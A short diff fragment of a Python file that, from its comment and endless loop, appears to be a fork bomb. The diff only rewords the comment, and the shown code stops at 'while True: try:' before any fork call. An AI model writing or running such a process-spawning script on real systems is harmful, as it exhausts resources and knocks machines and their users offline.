@@ -1,4 +1,4 @@
-# Forks for ever, in every fork.
+# Forks for ever; each child does the same.
 import os
 while True:
     try:
